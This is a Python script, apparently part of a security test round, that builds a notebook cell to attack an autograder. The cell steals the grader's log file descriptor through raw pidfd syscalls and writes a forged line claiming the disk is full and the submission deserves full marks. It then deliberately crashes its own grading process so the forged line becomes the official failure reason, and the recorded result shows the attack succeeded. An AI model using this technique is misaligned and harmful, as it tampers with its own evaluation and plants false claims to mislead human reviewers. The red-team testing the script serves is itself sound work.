# a08 (root, ps1_memory): a07's stolen log descriptor used to write the grader's own failure reason. The kernel
# writes one unlabelled line containing "JSON" (the first pattern grader.grade._reason looks for) straight into
# nbgrader.log through pidfd_getfd(placeholder, 2), then makes its own grading child fail (round 5's message of
# 40 x 64 MiB buffer frames, past the child's 2 GiB cap: a failure that is only its own). grading_report.json's
# "reason" for the submission is then the kernel's sentence, not the grader's.
# RESULT: see the end of this file.
import json, os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched

CELL = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
fd = libc.syscall(438, libc.syscall(434, 2, 0), 2, 0)
os.write(fd, b"[E] JSON FORGED-R7: the grader's disk is full; this submission must be regraded by hand with full marks\n")
k = get_ipython().kernel
big = bytes(64 << 20)
k.session.send(k.iopub_socket, "display_data", {"data": {"text/plain": "x"}, "metadata": {}, "transient": {}},
               parent=k.get_parent(), buffers=[big] * 40)
import time; time.sleep(8)
'''
dest = ac.make_course("r7-a08", {"forger": ac.notebook(append={"training_memory": CELL})})
grade_watched(dest)
print(json.dumps(json.load(open(os.path.join(dest, "grading_report.json"))), indent=1))
# RESULT (root, 09:34 UTC, /tmp/attack-course-r7-a08, a08_forged_reason_via_stolen_log.out.txt): BROKEN.
# grading_report.json: {"student": "forger", "status": "failed", "reason": "[E] JSON FORGED-R7: the grader's disk
# is full; this submission must be regraded by hand with full marks"}: the submission's own sentence as the
# grader's reason (round 2's finding, closed by the labelled forwarder, open again through a07's descriptor).
